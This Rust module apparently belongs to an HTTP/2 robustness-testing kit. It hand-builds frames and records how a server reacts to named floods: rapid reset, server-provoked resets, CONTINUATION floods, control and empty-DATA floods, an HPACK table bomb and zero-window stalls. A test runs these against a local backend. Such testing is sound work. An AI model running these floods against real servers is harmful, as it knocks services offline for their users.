//! HTTP/2 frames by hand, for peers that do what no library would: resets in a loop, heads without end, windows that
//! never open. The writer checks nothing; the reader understands enough to see how the other side takes it.

use std::io::{self, Read, Write};
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use crate::client::{Stream, is_timeout};

pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

pub mod kind {
    pub const DATA: u8 = 0;
    pub const HEADERS: u8 = 1;
    pub const PRIORITY: u8 = 2;
    pub const RST_STREAM: u8 = 3;
    pub const SETTINGS: u8 = 4;
    pub const PUSH_PROMISE: u8 = 5;
    pub const PING: u8 = 6;
    pub const GOAWAY: u8 = 7;
    pub const WINDOW_UPDATE: u8 = 8;
    pub const CONTINUATION: u8 = 9;
}

pub mod flag {
    pub const END_STREAM: u8 = 1;
    pub const ACK: u8 = 1;
    pub const END_HEADERS: u8 = 4;
    pub const PADDED: u8 = 8;
    pub const PRIORITY: u8 = 32;
}

/// Error codes a test looks for.
pub mod code {
    pub const NO_ERROR: u32 = 0;
    pub const PROTOCOL_ERROR: u32 = 1;
    pub const FLOW_CONTROL_ERROR: u32 = 3;
    pub const REFUSED_STREAM: u32 = 7;
    pub const CANCEL: u32 = 8;
    pub const COMPRESSION_ERROR: u32 = 9;
    pub const ENHANCE_YOUR_CALM: u32 = 11;
}

#[derive(Clone, Debug, PartialEq)]
pub struct Frame {
    pub kind: u8,
    pub flags: u8,
    pub stream: u32,
    pub payload: Vec<u8>,
}

impl Frame {
    pub fn new(kind: u8, flags: u8, stream: u32, payload: impl Into<Vec<u8>>) -> Self {
        Self { kind, flags, stream, payload: payload.into() }
    }

    pub fn encode(&self, out: &mut Vec<u8>) {
        out.extend_from_slice(&(self.payload.len() as u32).to_be_bytes()[1..]);
        out.extend_from_slice(&[self.kind, self.flags]);
        out.extend_from_slice(&self.stream.to_be_bytes());
        out.extend_from_slice(&self.payload);
    }

    /// The error code of RST_STREAM or GOAWAY.
    pub fn error(&self) -> Option<u32> {
        let at = match self.kind {
            kind::RST_STREAM => 0,
            kind::GOAWAY => 4,
            _ => return None,
        };
        Some(u32::from_be_bytes(self.payload.get(at..at + 4)?.try_into().ok()?))
    }
}

pub fn rst(stream: u32, code: u32) -> Frame {
    Frame::new(kind::RST_STREAM, 0, stream, code.to_be_bytes())
}

pub fn window_update(stream: u32, by: u32) -> Frame {
    Frame::new(kind::WINDOW_UPDATE, 0, stream, by.to_be_bytes())
}

pub fn ping(n: u64) -> Frame {
    Frame::new(kind::PING, 0, 0, n.to_be_bytes())
}

pub fn data(stream: u32, payload: impl Into<Vec<u8>>, end: bool) -> Frame {
    Frame::new(kind::DATA, if end { flag::END_STREAM } else { 0 }, stream, payload)
}

pub fn settings(pairs: &[(u16, u32)]) -> Frame {
    let mut payload = Vec::new();
    for (id, value) in pairs {
        payload.extend_from_slice(&id.to_be_bytes());
        payload.extend_from_slice(&value.to_be_bytes());
    }
    Frame::new(kind::SETTINGS, 0, 0, payload)
}

/// HEADERS with END_HEADERS.
pub fn headers(stream: u32, block: impl Into<Vec<u8>>, end: bool) -> Frame {
    Frame::new(kind::HEADERS, flag::END_HEADERS | if end { flag::END_STREAM } else { 0 }, stream, block)
}

/// An HPACK block of literals without indexing and without Huffman: any bytes as names and values.
pub fn literals(fields: &[(&[u8], &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, value) in fields {
        out.push(0);
        string(&mut out, name);
        string(&mut out, value);
    }
    out
}

/// A literal that is put into the dynamic table (as index 62 until the next one).
pub fn indexed_literal(name: &[u8], value: &[u8]) -> Vec<u8> {
    let mut out = vec![0x40];
    string(&mut out, name);
    string(&mut out, value);
    out
}

fn string(out: &mut Vec<u8>, text: &[u8]) {
    integer(out, 0, 7, text.len());
    out.extend_from_slice(text);
}

fn integer(out: &mut Vec<u8>, first: u8, bits: u32, mut n: usize) {
    let max = (1usize << bits) - 1;
    if n < max {
        return out.push(first | n as u8);
    }
    out.push(first | max as u8);
    n -= max;
    while n >= 128 {
        out.push((n % 128) as u8 | 128);
        n /= 128;
    }
    out.push(n as u8);
}

/// The block of an ordinary request.
pub fn request(method: &str, path: &str, authority: &str, more: &[(&str, &str)]) -> Vec<u8> {
    let mut fields: Vec<(&[u8], &[u8])> = vec![
        (b":method", method.as_bytes()),
        (b":scheme", b"http"),
        (b":path", path.as_bytes()),
        (b":authority", authority.as_bytes()),
    ];
    fields.extend(more.iter().map(|(n, v)| (n.as_bytes(), v.as_bytes())));
    literals(&fields)
}

pub struct RawH2 {
    pub stream: Stream,
    buffer: Vec<u8>,
    next: u32,
    /// Bytes written.
    pub sent: u64,
}

/// How the other side took a flood.
#[derive(Clone, Debug, Default)]
pub struct Outcome {
    /// Frames of the flood that were written before it ended.
    pub sent: u64,
    pub goaway: Option<u32>,
    pub resets: Vec<u32>,
    pub responses: u64,
    pub closed: bool,
    pub frames: u64,
}

impl RawH2 {
    /// Connects and exchanges prefaces with default settings.
    pub fn connect(addr: SocketAddr) -> io::Result<Self> {
        Self::start(Stream::connect(addr)?, &[])
    }

    pub fn connect_tls(addr: SocketAddr, config: &Arc<rustls::ClientConfig>, sni: &str) -> io::Result<Self> {
        Self::start(Stream::connect_tls(addr, config, sni)?, &[])
    }

    pub fn start(stream: Stream, pairs: &[(u16, u32)]) -> io::Result<Self> {
        let mut this = Self { stream, buffer: Vec::new(), next: 1, sent: 0 };
        this.write(PREFACE)?;
        this.send(&settings(pairs))?;
        let first = this.read()?.ok_or_else(|| io::Error::from(io::ErrorKind::UnexpectedEof))?;
        if first.kind != kind::SETTINGS {
            return Err(io::Error::other(format!("the first frame is {first:?}")));
        }
        this.send(&Frame::new(kind::SETTINGS, flag::ACK, 0, []))?;
        Ok(this)
    }

    pub fn write(&mut self, bytes: &[u8]) -> io::Result<()> {
        self.sent += bytes.len() as u64;
        self.stream.write_all(bytes)?;
        self.stream.flush()
    }

    pub fn send(&mut self, frame: &Frame) -> io::Result<()> {
        self.send_all(std::slice::from_ref(frame))
    }

    /// Several frames in one write.
    pub fn send_all(&mut self, frames: &[Frame]) -> io::Result<()> {
        let mut bytes = Vec::new();
        for frame in frames {
            frame.encode(&mut bytes);
        }
        self.write(&bytes)
    }

    /// The next stream id of a client.
    pub fn next_stream(&mut self) -> u32 {
        let id = self.next;
        self.next += 2;
        id
    }

    /// The next frame; None when the connection ended cleanly.
    pub fn read(&mut self) -> io::Result<Option<Frame>> {
        loop {
            if let Some(frame) = self.buffered() {
                return Ok(Some(frame));
            }
            let mut chunk = [0u8; 64 * 1024];
            match self.stream.read(&mut chunk)? {
                0 => return Ok(None),
                n => self.buffer.extend_from_slice(&chunk[..n]),
            }
        }
    }

    fn buffered(&mut self) -> Option<Frame> {
        let head: [u8; 9] = self.buffer.get(..9)?.try_into().ok()?;
        let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let payload = self.buffer.get(9..9 + len)?.to_vec();
        self.buffer.drain(..9 + len);
        let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]) & 0x7fff_ffff;
        Some(Frame { kind: head[3], flags: head[4], stream, payload })
    }

    /// Reads until a frame that `wanted` accepts, answering SETTINGS and PING on the way; None at the end or timeout.
    pub fn wait(&mut self, limit: Duration, wanted: impl Fn(&Frame) -> bool) -> Option<Frame> {
        let end = Instant::now() + limit;
        loop {
            let left = end.saturating_duration_since(Instant::now()).max(Duration::from_millis(1));
            self.stream.set_timeout(left);
            let frame = self.read().ok()??;
            if wanted(&frame) {
                return Some(frame);
            }
            if matches!(frame.kind, kind::SETTINGS | kind::PING) && frame.flags & flag::ACK == 0 {
                let payload = if frame.kind == kind::PING { frame.payload } else { Vec::new() };
                self.send(&Frame::new(frame.kind, flag::ACK, 0, payload)).ok()?;
            }
            if Instant::now() >= end {
                return None;
            }
        }
    }

    /// True if a PING is answered: the connection lives.
    pub fn alive(&mut self, limit: Duration) -> bool {
        let n = 0x7765_6674;
        self.send(&ping(n)).is_ok()
            && self
                .wait(limit, |f| f.kind == kind::PING && f.flags & flag::ACK != 0 && f.payload == n.to_be_bytes())
                .is_some()
    }

    /// Writes batches made by `batch(round)` until it gives an empty one, the peer ends the connection or `limit` is
    /// over, reading what comes in between; then reads on for `linger`, or until the end.
    pub fn flood(
        &mut self,
        limit: Duration,
        linger: Duration,
        mut batch: impl FnMut(&mut Self, u64) -> Vec<Frame>,
    ) -> Outcome {
        let end = Instant::now() + limit;
        let mut outcome = Outcome::default();
        for round in 0.. {
            if Instant::now() >= end || outcome.closed {
                break;
            }
            let frames = batch(self, round);
            if frames.is_empty() {
                break;
            }
            if self.send_all(&frames).is_err() {
                outcome.closed = true;
            } else {
                outcome.sent += frames.len() as u64;
            }
            self.drain(&mut outcome, Duration::from_millis(1));
        }
        let end = Instant::now() + linger;
        while Instant::now() < end && !self.drain(&mut outcome, Duration::from_millis(50)) {}
        outcome
    }

    /// Takes note of the frames that are there; true at the end of the connection. A reset counts as an end: GOAWAY may
    /// be lost to it, as data in flight always may.
    fn drain(&mut self, outcome: &mut Outcome, limit: Duration) -> bool {
        self.stream.set_timeout(limit);
        loop {
            match self.read() {
                Ok(Some(frame)) => {
                    outcome.frames += 1;
                    match frame.kind {
                        kind::GOAWAY => outcome.goaway = frame.error(),
                        kind::RST_STREAM => outcome.resets.extend(frame.error()),
                        kind::HEADERS => outcome.responses += 1,
                        _ => {}
                    }
                }
                Err(e) if is_timeout(&e) => return false,
                Ok(None) | Err(_) => {
                    outcome.closed = true;
                    return true;
                }
            }
        }
    }

    // --- The floods by name; each ends at `count` units, at the peer's end or at the limit ---

    /// HEADERS and RST_STREAM at once, `count` times.
    pub fn rapid_reset(&mut self, authority: &str, count: u64, limit: Duration) -> Outcome {
        let block = request("GET", "/", authority, &[]);
        self.flood(limit, Duration::from_secs(1), |h2, round| {
            let left = count.saturating_sub(round * 50).min(50);
            (0..left)
                .flat_map(|_| {
                    let id = h2.next_stream();
                    [headers(id, block.clone(), true), rst(id, code::CANCEL)]
                })
                .collect()
        })
    }

    /// Streams that break the protocol so that the *server* resets them: window updates of 0.
    pub fn made_you_reset(&mut self, authority: &str, count: u64, limit: Duration) -> Outcome {
        let block = request("GET", "/", authority, &[]);
        self.flood(limit, Duration::from_secs(1), |h2, round| {
            let left = count.saturating_sub(round * 50).min(50);
            (0..left)
                .flat_map(|_| {
                    let id = h2.next_stream();
                    [headers(id, block.clone(), true), window_update(id, 0)]
                })
                .collect()
        })
    }

    /// One head that never ends: CONTINUATION frames of `size` bytes of small fields.
    pub fn continuation_flood(&mut self, authority: &str, count: u64, size: usize, limit: Duration) -> Outcome {
        let id = self.next_stream();
        let mut first = Some(Frame::new(kind::HEADERS, flag::END_STREAM, id, request("GET", "/", authority, &[])));
        let field = literals(&[(b"x-filler", &[b'a'; 100])]);
        let payload: Vec<u8> = field.iter().copied().cycle().take(field.len() * (size / field.len()).max(1)).collect();
        self.flood(limit, Duration::from_secs(1), |_, round| match first.take() {
            Some(head) => vec![head],
            None if round > count => Vec::new(),
            None => vec![Frame::new(kind::CONTINUATION, 0, id, payload.clone())],
        })
    }

    /// `count` frames of one sort that cost the sender nothing (`ping`, `settings(&[])`, `window_update(0, 1)`, PRIORITY).
    pub fn control_flood(&mut self, frame: &Frame, count: u64, limit: Duration) -> Outcome {
        self.flood(limit, Duration::from_secs(1), |_, round| {
            let left = count.saturating_sub(round * 100).min(100);
            vec![frame.clone(); left as usize]
        })
    }

    /// An open request with `count` DATA frames without content.
    pub fn empty_data_flood(&mut self, authority: &str, count: u64, limit: Duration) -> Outcome {
        let id = self.next_stream();
        let mut first = Some(headers(id, request("POST", "/", authority, &[]), false));
        self.flood(limit, Duration::from_secs(1), |_, round| match first.take() {
            Some(head) => vec![head],
            None => vec![data(id, [], false); count.saturating_sub((round - 1) * 100).min(100) as usize],
        })
    }

    /// A field of `size` bytes in the dynamic table, then requests that name it `references` times each.
    pub fn hpack_bomb(
        &mut self,
        authority: &str,
        size: usize,
        references: usize,
        count: u64,
        limit: Duration,
    ) -> Outcome {
        let mut first = true;
        self.flood(limit, Duration::from_secs(1), |h2, round| {
            if round >= count {
                return Vec::new();
            }
            let mut block = request("GET", "/", authority, &[]);
            if std::mem::take(&mut first) {
                block.extend_from_slice(&indexed_literal(b"x-bomb", &vec![b'b'; size]));
            }
            // 0x80 | 62: the newest entry of the dynamic table.
            block.extend(std::iter::repeat_n(0x80 | 62, references));
            vec![headers(h2.next_stream(), block, true)]
        })
    }

    /// Asks `count` times for `path` with a window of nothing and then stays silent: who holds such streams, and how
    /// much memory? (Start with `RawH2::start(stream, &[(4, 0)])`: INITIAL_WINDOW_SIZE 0.)
    pub fn stall(&mut self, authority: &str, path: &str, count: u64) -> io::Result<Vec<u32>> {
        let mut ids = Vec::new();
        for _ in 0..count {
            let id = self.next_stream();
            self.send(&headers(id, request("GET", path, authority, &[]), true))?;
            ids.push(id);
        }
        Ok(ids)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::backend::{Backend, echo};

    #[test]
    fn speaks_to_a_real_server_and_floods_it() {
        let backend = Backend::start(echo());
        let mut h2 = RawH2::connect(backend.addr()).expect("connect");
        let id = h2.next_stream();
        h2.send(&headers(id, request("GET", "/hello", "a.test", &[("x-a", "b")]), true)).expect("send");
        let limit = Duration::from_secs(5);
        assert!(h2.wait(limit, |f| f.kind == kind::HEADERS && f.stream == id).is_some());
        assert!(h2.wait(limit, |f| f.stream == id && f.flags & flag::END_STREAM != 0).is_some());
        assert_eq!((backend.last().target.as_str(), backend.last().header("x-a")), ("/hello", Some("b")));
        assert!(h2.alive(limit));
        // h2 itself ends such connections; what matters here is that the kit sees it.
        let outcome = h2.rapid_reset("a.test", 20_000, Duration::from_secs(10));
        assert!(outcome.closed || outcome.goaway.is_some(), "{outcome:?}");
        let mut h2 = RawH2::connect(backend.addr()).expect("connect");
        let outcome = h2.continuation_flood("a.test", 10_000, 8000, Duration::from_secs(10));
        assert!(outcome.closed, "{outcome:?}");
        assert_eq!(crate::client::http1(backend.addr()).get("/").status, 200);
    }
}
